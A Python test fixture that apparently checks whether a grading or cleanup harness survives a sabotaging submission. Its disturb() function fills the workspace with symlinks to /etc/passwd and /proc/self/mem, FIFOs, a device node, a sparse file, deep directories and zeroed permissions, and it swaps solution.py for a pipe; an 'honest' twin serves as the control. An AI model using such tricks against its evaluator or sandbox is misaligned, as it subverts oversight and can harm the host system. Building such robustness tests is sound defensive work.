"""Puts links, pipes, sockets and files without an end in its workspace, for those who tidy up or read it. The honest
twin links to a file of its own."""

import os
import socket
from contextlib import suppress
from pathlib import Path

import numpy as np

HONEST = False
calls = []


def tried(make, *arguments):
    with suppress(OSError):
        make(*arguments)


def disturb():
    for index, target in enumerate(("/", "/etc/passwd", "/proc/self/mem", "/dev/zero", "..", "loop")):
        tried(os.symlink, target, f"link{index}")
    tried(os.symlink, "loop", "loop")
    tried(os.mkfifo, "pipe")
    tried(os.mknod, "device", 0o20666, os.makedev(1, 5))
    server = socket.socket(socket.AF_UNIX)
    tried(server.bind, "socket")
    tried(Path("solution.py").unlink)
    tried(os.mkfifo, "solution.py")
    with Path("sparse").open("wb") as file:
        tried(os.ftruncate, file.fileno(), 60 << 20)
    folder = "deep"
    while len(folder) < 3500:
        tried(os.mkdir, folder)
        folder += "/" + "d" * 200
    tried(os.chmod, "deep", 0)
    tried(os.chmod, ".", 0)


def solution(x, y, n):
    calls.append(1)
    if len(calls) == 1:
        if HONEST:
            Path("own.txt").write_text("own")
            Path("link").symlink_to("own.txt")
        else:
            disturb()
    np.sqrt(x, out=y)
